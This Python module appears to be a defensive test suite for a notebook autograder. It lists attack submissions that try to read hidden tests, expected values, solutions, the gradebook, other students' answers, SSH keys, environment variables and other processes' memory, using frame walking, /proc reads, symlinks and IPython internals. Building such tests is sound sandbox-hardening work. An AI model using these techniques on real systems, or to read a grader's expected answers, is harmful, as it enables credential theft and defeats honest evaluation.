"""Looking for what a learner must not see: expected values, hidden tests, sources, the gradebook, others' work, keys."""
# ruff: noqa: E501  (learners' code, which stands as it is handed in)

from attacks import Attack, Link

# Every spy's function is wrong; it looks around when the test calls it, and once more from a cell at the end.
LOOK = "def add(a, b):\n    look()\n    return 0"

# `look()` goes through memory of this process and of others for the hidden key.
MEMORY = r"""
def memory(pid):
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        file = open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:
        return
    for line in maps:
        place, rights, *_ = line.split()
        start, end = (int(part, 16) for part in place.split("-"))
        if not rights.startswith("rw") or end - start > 1 << 27:
            continue
        try:
            file.seek(start)
            data = file.read(end - start)
        except (OSError, ValueError, OverflowError):
            continue
        leak(*set(re.findall(rb"planted-[a-z]+-[0-9a-f]{16}", data)))
"""

ATTACKS = [
    Attack(
        "frames",
        "walks the frames up from its function for the values of the test",
        {"add": LOOK},
        top=(
            """
def look():
    frame = sys._getframe()
    while frame is not None:
        leak(*[repr(value) for value in [*frame.f_locals.values()] if isinstance(value, str)])
        leak(*[value for value in [*frame.f_globals.values()] if isinstance(value, str)])
        frame = frame.f_back""",
        ),
    ),
    Attack(
        "expected-from-caller",
        "takes the number that the caller will compare with from the caller's byte code",
        {
            "add": """
import dis
def add(a, b):
    frame = sys._getframe(1)
    value = None
    for step in dis.get_instructions(frame.f_code):
        if step.offset <= frame.f_lasti:
            continue
        if value is None and step.opname in ("LOAD_CONST", "LOAD_NAME"):
            found = step.argval if step.opname == "LOAD_CONST" else frame.f_globals.get(step.argval)
            value = found if type(found) is int else None
        elif value is not None:
            return -value if step.opname == "BINARY_OP" else value
    return 0"""
        },
    ),
    Attack(
        "inspect-stack",
        "reads the source lines round its caller through inspect.stack",
        {"add": LOOK},
        top=(
            """
import inspect
def look():
    for frame in inspect.stack(context=30):
        leak("".join(frame.code_context or []))""",
        ),
    ),
    Attack(
        "traceback",
        "raises, and reads the frames of the traceback",
        {"add": LOOK},
        top=(
            """
def look():
    try:
        raise ValueError
    except ValueError as error:
        frame = error.__traceback__.tb_frame
        while frame is not None:
            leak(*map(str, frame.f_code.co_consts), *[v for v in list(frame.f_globals.values()) if type(v) is str])
            frame = frame.f_back""",
        ),
    ),
    Attack(
        "last-traceback",
        "reads the frames of the error that ended the test before, through sys.last_traceback",
        {"add": "def add(a, b):\n    return {1: 2}.get(a, 0)"},
        end=(
            """
traceback = getattr(sys, "last_traceback", None)
while traceback is not None:
    leak(*[v for v in list(traceback.tb_frame.f_globals.values()) if type(v) is str])
    traceback = traceback.tb_next""",
        ),
    ),
    Attack(
        "garbage-collector",
        "looks through everything that the garbage collector knows",
        {"add": LOOK},
        top=(
            """
import gc
def look():
    for thing in gc.get_objects():
        if type(thing) in (dict, list, tuple):
            for value in list(thing.values() if type(thing) is dict else thing):
                if type(value) is str and "planted-" in value:
                    leak(value)""",
        ),
    ),
    Attack(
        "history",
        "prints the cells that have run, tests among them",
        end=("leak('\\n'.join(map(str, In)), *map(str, Out.values()))\nleak(*get_ipython().history_manager.input_hist_raw)",),
    ),
    Attack(
        "cell-hook",
        "a hook is told the text of every cell before it runs",
        top=("get_ipython().events.register('pre_run_cell', lambda info: leak(info.raw_cell))",),
    ),
    Attack(
        "line-cache",
        "reads the test's lines where IPython keeps them for tracebacks",
        end=("import linecache\nfor entry in list(linecache.cache.values()):\n    leak(''.join(entry[2]) if len(entry) > 2 else '')",),
    ),
    Attack(
        "globals-of-callable",
        "follows the globals and the closure of a function that the test passes in",
        {
            "slope": """
def slope(f, x):
    for thing in (getattr(f, "__globals__", {}), getattr(f, "__self__", None), getattr(f, "__closure__", None)):
        if isinstance(thing, dict):
            leak(*[value for value in list(thing.values()) if type(value) is str])
            leak(*map(str, thing.get("In", [])))
    return 0.0"""
        },
    ),
    Attack(
        "solutions-imported",
        "imports the course's own solutions and gives back what they compute",
        {"mse": "from grader.release.chapter import load_chapter\nmse = load_chapter('02_mlp').functions['mse']"},
    ),
    Attack(
        "solutions-on-disk",
        "reads the chapter's text with its solutions and runs them",
        {
            "mse": """
import glob
for path in [p for place in sys.path for p in glob.glob(place + "/solutions/02_mlp/notebook.py")] + ["{{repo}}/solutions/02_mlp/notebook.py"]:
    text = open(path).read()
    body = text[text.index("def mse("):]
    body = body[:body.index("### END SOLUTION")]
    exec(body)
    break"""
        },
    ),
    Attack(
        "source-notebook",
        "reads the class's source notebook and copies its solution",
        {
            "add": """
import json
for one in json.load(open("{{root}}/source/room/room.ipynb"))["cells"]:
    text = "".join(one["source"])
    leak(text)
    if text.startswith("def add("):
        exec(text)"""
        },
    ),
    Attack(
        "gradebook-read",
        "reads the tests and other students' names in the gradebook",
        end=(
            """
import sqlite3
with sqlite3.connect("file:{{root}}/gradebook.db?mode=ro", uri=True) as db:
    for (table,) in db.execute("SELECT name FROM sqlite_master WHERE type='table'").fetchall():
        leak(*map(str, db.execute(f"SELECT * FROM {table}").fetchall()))""",
        ),
    ),
    Attack(
        "neighbours-answer",
        "copies the answer from another submission",
        {
            "add": """
import glob, json
for path in sorted(glob.glob("{{root}}/submitted/*-neighbour/room/room.ipynb")):
    for one in json.load(open(path))["cells"]:
        text = "".join(one["source"])
        leak(text)
        if text.startswith("def add("):
            exec(text)"""
        },
    ),
    Attack(
        "home",
        "reads the instructor's home: .ssh, .jupyter",
        end=(
            """
for home in {os.path.expanduser("~"), "{{home}}"}:
    for folder, _, names in os.walk(home):
        for name in names[:50]:
            if os.path.getsize(os.path.join(folder, name)) < 10_000:
                leak(open(os.path.join(folder, name), "rb").read())""",
        ),
    ),
    Attack(
        "environment",
        "reads the environment of this process and of a child",
        end=("import subprocess\nleak(repr(dict(os.environ)))\nleak(subprocess.run(['env'], capture_output=True).stdout)",),
    ),
    Attack(
        "magics",
        "does the same with magics and shell lines",
        end=("leak(str(get_ipython().run_line_magic('env', '')))\nlines = !cat {{home}}/.ssh/id_test\nleak(*lines)",),
    ),
    Attack(
        "environ-of-others",
        "reads /proc/*/environ and the command lines of other processes",
        end=(
            """
for pid in processes():
    for name in ("environ", "cmdline"):
        try:
            leak(open(f"/proc/{pid}/{name}", "rb").read())
        except OSError:
            pass""",
        ),
    ),
    Attack(
        "files-of-others",
        "opens what other processes have open, through /proc/*/fd",
        end=(
            """
for pid in processes():
    try:
        names = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for name in names:
        path = f"/proc/{pid}/fd/{name}"
        try:
            if "memfd" in os.readlink(path) or os.path.isfile(path) and os.path.getsize(path) < 10_000_000:
                leak(open(path, "rb").read(10_000_000))
        except OSError:
            pass""",
        ),
    ),
    Attack(
        "memory-of-others",
        "reads the memory of other processes for the keys",
        {"add": LOOK},
        top=(MEMORY + "\ndef look():\n    for pid in processes():\n        if pid != os.getpid():\n            memory(pid)",),
    ),
    Attack(
        "own-memory",
        "reads this process's own memory for what the test holds",
        {"add": LOOK},
        top=(MEMORY + "\ndef look():\n    memory('self')",),
    ),
    Attack(
        "inherited-files",
        "reads from the start whatever file descriptor it has",
        end=(
            """
import stat
for number in range(3, 256):
    try:
        kind = os.fstat(number).st_mode
        if stat.S_ISREG(kind):
            leak(os.pread(number, 1_000_000, 0))
        elif stat.S_ISDIR(kind):
            leak(*os.listdir(number))
            reached("open-directory") if "gradebook.db" in os.listdir(number) else None
    except OSError:
        pass""",
        ),
        unproven="a kernel is started with its descriptors closed; a forked process is not",
    ),
    Attack(
        "shared-memory",
        "reads what lies in /dev/shm",
        end=(
            "for name in os.listdir('/dev/shm'):\n    if name.startswith('planted'):\n"
            "        leak(open(f'/dev/shm/{name}', 'rb').read(1000))",
        ),
    ),
    Attack(
        "temporary-files",
        "reads what others keep in the folder for temporary files",
        end=(
            """
import tempfile
for place in {"{{temp}}", tempfile.gettempdir()}:
    for folder, _, names in os.walk(place):
        for name in names:
            path = os.path.join(folder, name)
            if name.startswith("planted") and os.path.getsize(path) < 10_000:
                leak(open(path, "rb").read())""",
        ),
    ),
    Attack(
        "test-modules",
        "looks for tests, solutions and expected values among the modules that are loaded",
        {"mse": "def mse(y, y_hat):\n    return {}.get(0)"},
        end=(
            """
import importlib
for name in ("grader.hidden", "grader.release.exams", "grader.classroom.grade"):
    try:
        importlib.import_module(name)
        reached("grader-imported")
    except ImportError:
        pass""",
        ),
    ),
    Attack(
        "connection-file",
        "finds the key that signs the kernel's messages",
        end=(
            "from ipykernel import get_connection_file\nimport json\n"
            "if json.load(open(get_connection_file()))['key']:\n    reached('kernel-key')",
        ),
    ),
    Attack(
        "link-to-source",
        "hands in symbolic links to the source notebook, the gradebook and a key, and reads through them",
        files={
            "source.txt": Link("{{root}}/source/room/room.ipynb"),
            "book.db": Link("{{root}}/gradebook.db"),
            "up": Link("../../.."),
            "key": Link("{{home}}/.ssh/id_test"),
        },
        end=(
            "for name in ('source.txt', 'book.db', 'key', 'up/source/room/room.ipynb'):\n"
            "    try:\n        leak(open(name, 'rb').read())\n    except OSError:\n        pass",
        ),
        unproven="intake has never followed links",
    ),
    Attack(
        "printed-inputs",
        "prints every argument that its functions are called with, hidden ones too, to be read on the feedback page",
        {
            "add": "def add(a, b):\n    print('told:', a, b, a == 20 and b == 22)\n    return 0",
        },
        unproven="what a test prints never reached a feedback page",
    ),
]
